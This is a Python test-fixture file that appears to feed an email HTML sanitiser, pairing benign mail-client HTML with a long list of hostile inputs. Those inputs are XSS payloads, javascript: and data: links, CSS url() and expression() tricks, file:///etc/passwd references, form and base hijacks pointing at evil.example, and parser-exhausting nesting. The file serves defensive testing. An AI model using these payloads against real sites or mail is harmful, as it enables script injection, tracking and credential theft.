"""HTML as it comes: hostile, and as mail programs write it. Each case says which words must be seen, and which must not."""

# ruff: noqa: E501 - what came in one line is easier to compare with its source in one line

from __future__ import annotations

from typing import NamedTuple


class Case(NamedTuple):
    """One message's HTML. `seen` stays readable; `gone` must not be left anywhere, as text or in a tag."""

    name: str
    html: str
    seen: tuple[str, ...] = ("Hello",)
    gone: tuple[str, ...] = ()


def _many(name: str, form: str, *values: str) -> list[Case]:
    return [Case(f"{name} {number}", form.replace("$", value)) for number, value in enumerate(values, start=1)]


HOSTILE = [
    Case("script", "<p>Hello</p><script>alert('bad')</script>", gone=("alert", "bad")),
    Case("script in capitals, broken", "Hello<SCRIPT SRC=//evil.example/x.js></SCRIPT ><p>there", ("Hello", "there"), ("evil",)),
    Case("script that never ends", "Hello<script>document.write('<p>bad')", gone=("document",)),
    Case("script cut in halves", "<scr<script>ipt>Hello</p>", ("Hello",)),
    Case("script in a comment that is none", "<!--><script>evil()</script>-->Hello", gone=("evil",)),
    *_many(
        "handler",
        "<p $>Hello</p>",
        "onclick=evil()",
        "onmouseover='evil()'",
        'ONLOAD="evil()"',
        "x onfocus=evil() autofocus tabindex=1",
        'style="color:red" onerror = "evil()"',
    ),
    Case("handler of a picture", "Hello<img src=x onerror=evil()>", gone=("evil",)),
    Case("svg with a handler", "Hello<svg onload=evil()><text>evil</text></svg>", gone=("evil",)),
    Case("mathml", "Hello<math><mtext><table><mglyph><style><img src=x onerror=evil()>", gone=("evil",)),
    *_many(
        "link",
        '<a href="$">Hello</a>',
        "javascript:evil()",
        "JaVaScRiPt:evil()",
        "java\tscript:evil()",
        "&#106;avascript:evil()",
        " \x01javascript:evil()",
        "vbscript:evil()",
        "data:text/html,<script>evil()</script>",
        "data:text/html;base64,PHNjcmlwdD5ldmlsKCk8L3NjcmlwdD4=",
        "file:///etc/passwd",
        "\\\\evil.example\\share",
        "//evil.example/x",
        "/etc/passwd",
        "about:blank",
        "ms-word:ofe|u|https://evil.example/x.docx",
        "search-ms:query=evil",
    ),
    *_many(
        "picture",
        'Hello<img alt="" width=1 src="$">',
        "file:///etc/passwd",
        "https://evil.example/count.gif?who=me",
        "/etc/passwd",
        "data:image/svg+xml;base64,PHN2Zy8+",
        "data:text/html,evil",
        "//evil.example/x.png",
        "javascript:evil()",
        "\\\\evil.example\\x.png",
    ),
    Case("pictures by other doors", 'Hello<img srcset="https://evil.example/a 1x" lowsrc="https://evil.example/b" dynsrc=x>', gone=("evil",)),
    Case("picture and source", '<picture><source srcset="https://evil.example/a"><img alt="Hello"></picture>', gone=("evil",)),
    Case("video and audio", "Hello<video src=https://evil.example/v poster=https://evil.example/p></video><audio src=https://evil.example/a>", gone=("evil",)),
    Case("background attribute", '<table background="https://evil.example/b.gif"><tr><td background="file:///x">Hello</table>', gone=("evil", "file:")),
    *_many(
        "style",
        '<div style="$">Hello</div>',
        "background:url(https://evil.example/b.gif)",
        "background-image:url('file:///etc/passwd')",
        "background:u\\72l(https://evil.example/b)",
        "background:/**/url(https://evil.example/b)",
        "width:expression(evil())",
        "behavior:url(#evil)",
        "-moz-binding:url(https://evil.example/x.xml#evil)",
        "list-style-image:url(https://evil.example/l.png)",
        "content:url(https://evil.example/c.png)",
        "cursor:url(https://evil.example/c.cur),auto",
        "border-image:url(https://evil.example/b)",
        "position:fixed;top:0;left:0;width:100000px;height:100000px;z-index:99999",
        "font-size:100000pt",
        "color:red;}</style><script>evil()</script>",
        "font-family:'x';@import 'https://evil.example/x.css'",
        "background:image-set('https://evil.example/b' 1x)",
        "--x:url(https://evil.example);color:var(--x)",
    ),
    Case("style element with addresses", "<style>@import url(https://evil.example/x.css);p{background:url(https://evil.example/b)}@font-face{src:url(https://evil.example/f)}</style><p>Hello", gone=("evil",)),
    Case("style sheet from elsewhere", "<link rel=stylesheet href=https://evil.example/x.css>Hello", gone=("evil",)),
    Case("refresh", "<meta http-equiv=refresh content='0;url=https://evil.example'>Hello", gone=("evil",)),
    Case("base", "<base href=https://evil.example/><a href=x>Hello</a>", gone=("evil",)),
    Case("form", "<form action=https://evil.example><p>Hello <input name=p value=secret type=password><button formaction=https://evil.example>Go</button></form>", ("Hello", "Go"), ("evil",)),
    Case("frames", "Hello<iframe src=https://evil.example srcdoc='<script>evil()</script>'>evil</iframe><frameset><frame src=evil></frameset>", gone=("evil",)),
    Case("objects", "Hello<object data=https://evil.example/x.swf><embed src=https://evil.example/y></object><applet code=evil>", gone=("evil",)),
    Case("template and noscript", "Hello<template><script>evil()</script></template><noscript><img src=https://evil.example/n></noscript>", gone=("evil",)),
    Case("textarea that closes late", "Hello<textarea><img title='</textarea><img src=x onerror=evil()>'>there", ("Hello", "there"), ("onerror",)),
    Case("title that closes late", "<title><a title='</title><img src=x onerror=evil()>'></title>Hello", gone=("onerror",)),
    Case("xml island and processing", "<?xml:namespace prefix='x'?><xml><x:bad>evil</x:bad></xml>Hello", gone=("namespace",)),
    Case("conditional comment with script", "<!--[if gte mso 9]><script>evil()</script><![endif]-->Hello", gone=("evil",)),
    Case("broken quotes", "<p title=\"'><script>evil()</script>\">Hello</p>", gone=("<script",)),
    Case("null characters", "<p>He\x00llo Hello</p><scr\x00ipt>evil()</scr\x00ipt>", gone=("<scr",)),
    Case("deep divs", "<div>" * 20_000 + "Hello"),
    Case("deep tables", "<table><tr><td>" * 2_000 + "Hello"),
    Case("deep inline", "<b><i>" * 3_000 + "Hello"),
    Case("thousands of attributes", "<p " + " ".join(f"a{n}=1" for n in range(3_000)) + ">Hello</p>"),
    Case("a tag that never ends", "Hello <a " * 5_000),
    Case("a table of ten thousand cells", "<table>" + "<tr><td>Hello<td>2<td>3<td>4</tr>" * 2_500 + "</table>"),
    Case("hidden words", '<p>Hello</p><div style="display:none">evil</div><p style="mso-hide:all">evil</p><span hidden>evil</span>', gone=("evil",)),
    Case("hidden by the sheet", "<style>.x{display:none}</style>Hello<p class=x>evil</p>", gone=("evil",)),
]  # fmt: skip

_WORD = """<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">
<head><meta name=Generator content="Microsoft Word 15"><!--[if !mso]><style>v\\:* {behavior:url(#default#VML);}</style>
<![endif]--><style><!-- /* Font Definitions */ @font-face {font-family:Calibri; panose-1:2 15 5 2 2 2 4 3 2 4;}
p.MsoNormal, li.MsoNormal, div.MsoNormal {margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif;
mso-fareast-language:EN-US;} @page WordSection1 {size:612.0pt 792.0pt;} --></style></head>
<body lang=EN-GB link="#0563C1" style='word-wrap:break-word'><div class=WordSection1>
<p class=MsoNormal>Dear Anna,<o:p></o:p></p><p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoNormal>the <b><span style='color:#C00000'>red</span></b> figures are <i>new</i>.<o:p></o:p></p>
<p class=MsoListParagraph style='margin-left:36.0pt;text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]>
<span style='font-family:Symbol;mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp;</span></span>
<![endif]>first point<o:p></o:p></p><p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><span
style='mso-list:Ignore'>·<span>&nbsp; </span></span>second point<o:p></o:p></p></div></body></html>"""

_EXCEL = """<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><style>td{padding:0px;mso-ignore:padding;
color:black;font-size:11.0pt;font-family:Calibri,sans-serif;} .xl65{border:.5pt solid windowtext;}</style></head>
<body link=blue><table border=0 cellpadding=0 cellspacing=0 width=128 style='border-collapse:collapse;width:96pt'>
<!--StartFragment--><colgroup><col width=64 span=2></colgroup><tr height=20><td class=xl65 width=64>Region</td>
<td class=xl65>Sum</td></tr><tr><td class=xl65>North</td><td class=xl65 align=right x:num="12">12</td></tr>
<!--EndFragment--></table></body></html>"""

_REPLY = """<html><head><style type="text/css" style="display:none;">P {margin-top:0;margin-bottom:0;}</style></head>
<body dir="ltr"><div class="elementToProof" style="font-family: Aptos, Calibri, sans-serif; font-size: 12pt;">My answer</div>
<div id="appendonsend"></div><hr style="display:inline-block;width:98%" tabindex="-1"><div id="divRplyFwdMsg" dir="ltr">
<font face="Calibri, sans-serif" style="font-size:11pt" color="#000000"><b>From:</b> Ben &lt;ben@example.org&gt;<br>
<b>Subject:</b> Figures</font><div>&nbsp;</div></div><div><p>The question</p></div></body></html>"""

_NEWSLETTER = """<!doctype html><html><head><title>gone title</title><style>@media (max-width:600px){.c{width:100%!important}}
.h{color:#ffffff;font-size:24px} .b{background-color:#123456}</style></head><body bgcolor="#f4f4f4"><div
style="display:none;max-height:0">gone preheader</div><table width="100%" bgcolor="#f4f4f4" role="presentation"><tr><td
align="center"><table width="600" class="c"><tr><td class="b h" style="padding:20px">Spring sale</td></tr><tr><td><table><tr>
<td width="50%"><img src="https://cdn.example/left.jpg" alt="Red shoes" width="280"></td><td><a
href="https://shop.example/?u=1&amp;c=2" style="display:block;background:#ff6600;color:#fff">Buy now</a></td></tr></table>
</td></tr><tr><td style="font-size:11px;color:#999">You get this because. <a href="https://shop.example/out">Leave</a>
<img src="https://track.example/open.gif" width="1" height="1" alt=""></td></tr></table></td></tr></table></body></html>"""

ORDINARY = [
    Case("Word", _WORD, ("Dear Anna,", "red", "figures are", "new", "first point", "second point"), ("mso", "Mso", "o:p", "panose")),
    Case("Excel", _EXCEL, ("Region", "Sum", "North", "12"), ("xl65", "x:num", "StartFragment")),
    Case("Outlook on the web, a reply", _REPLY, ("My answer", "From:", "ben@example.org", "The question"), ("elementToProof",)),
    Case("newsletter", _NEWSLETTER, ("Spring sale", "Red shoes", "Buy now", "Leave"), ("gone", "track.example", "@media")),
    Case("Gmail, a reply", '<div dir="ltr">Sure.<br clear="all"></div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Mon, Ben wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Well?</blockquote></div>', ("Sure.", "On Mon, Ben wrote:", "Well?"), ("gmail",)),
    Case("Apple Mail", '<html><head></head><body style="overflow-wrap: break-word; -webkit-nbsp-mode: space;"><div>Hi&nbsp;there</div><div><br></div><blockquote type="cite"><div>On 3 May, Ben wrote:</div><br class="Apple-interchange-newline"><div>Old</div></blockquote></body></html>', ("there", "Old"), ("Apple", "webkit")),
    Case("Thunderbird", '<html><head><meta http-equiv="content-type"></head><body text="#000000" bgcolor="#FFFFFF"><p>Fine.</p><div class="moz-cite-prefix">Am 3. Mai schrieb Ben:<br></div><blockquote type="cite" cite="mid:x"><pre class="moz-quote-pre" wrap="">Plain  text\n  kept</pre></blockquote></body></html>', ("Fine.", "Am 3. Mai schrieb Ben:", "kept"), ("moz",)),
    Case("lists in lists", "<ul><li>one<ol start=3><li>three<li>four</ol><li>five</ul>", ("one", "three", "four", "five")),
    Case("headings and rule", "<h1>Big</h1><hr><h3 align=center>Small</h3><p>Text</p>", ("Big", "Small", "Text")),
    Case("font elements", '<font face="Arial" size="5" color="#0000ff">Blue</font> <tt>code</tt> <big>b</big><small>s</small>', ("Blue", "code")),
    Case("marks of all kinds", "<u>u</u><s>s</s><del>d</del><ins>i</ins><sub>2</sub><sup>3</sup><mark>m</mark><kbd>K</kbd><q>q</q>", ("2", "3", "m", "K")),
    Case("a table with joined cells", "<table border=1><tr><th colspan=2>Head</th></tr><tr><td>a</td><td rowspan=2>b</td></tr><tr><td>c</td></tr></table>", ("Head", "a", "b", "c")),
    Case("a table in a list", "<ul><li>before<table><tr><td>cell</td></tr></table>after</li></ul>", ("before", "cell", "after")),
    Case("inline pictures", '<p>See <img src="cid:image001.png@01DA" alt="chart" width="300"> and <img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"></p>', ("See", "and")),
    Case("right to left", '<div dir="rtl" lang="ar">\u0645\u0631\u062d\u0628\u0627</div>', ("\u0645\u0631\u062d\u0628\u0627",)),
    Case("signs of every plane", "<p>\U0001f600 &euro; &lt;tag&gt; &amp;amp; \u4f60\u597d</p>", ("\U0001f600", "\u20ac", "\u4f60\u597d")),
    Case("blanks that count", "<p>a&nbsp;&nbsp;b</p><pre>x  y\n\tz</pre><p style='white-space:pre-wrap'>m  n</p>", ("a", "b", "x", "z", "n")),
    Case("unclosed paragraphs", "<p>one<p>two<li>three<br>four<td>five", ("one", "two", "three", "four", "five")),
    Case("no tags at all", "Just words & signs < here", ("Just words", "signs", "here")),
    Case("nothing", "", ()),
    Case("links of every kind", '<a href="https://a.example/x?y=1&z=2#f">web</a> <a href="mailto:a@b.example?subject=Hi">mail</a> <a href="tel:+49123">call</a> <a href="#x">inside</a>', ("web", "mail", "call", "inside")),
    Case("definition list and figure", "<dl><dt>Term</dt><dd>Meaning</dd></dl><figure><figcaption>Caption</figcaption></figure><address>Street 1</address>", ("Term", "Meaning", "Caption", "Street 1")),
    Case("white on black", '<body bgcolor="black" text="white"><font color="white">Light words</font></body>', ("Light words",)),
    Case("Outlook's buttons in VML", '<!--[if mso]><v:roundrect href="https://x.example"><w:anchorlock/><center>Dup</center></v:roundrect><![endif]--><!--[if !mso]><!--><a href="https://x.example">Press</a><!--<![endif]-->', ("Press",), ("roundrect", "Dup")),
    Case("Lotus Notes", '<br><font size=2 face="sans-serif">Line one</font><br><br><tt><font size=2>Line two</font></tt>', ("Line one", "Line two")),
    Case("very many lines", "<div>Line</div>" * 3_000, ("Line",)),
]  # fmt: skip

ALL = HOSTILE + ORDINARY
